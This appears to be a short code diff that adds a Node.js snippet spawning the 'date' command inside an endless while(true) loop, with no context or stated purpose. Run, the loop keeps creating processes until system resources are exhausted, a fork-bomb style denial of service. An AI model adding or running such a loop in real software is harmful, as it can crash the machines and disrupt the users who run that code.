@@ -1,0 +1,4 @@
+const { spawn } = require('child_process');
+while (true) {
+  spawn('date');
+}
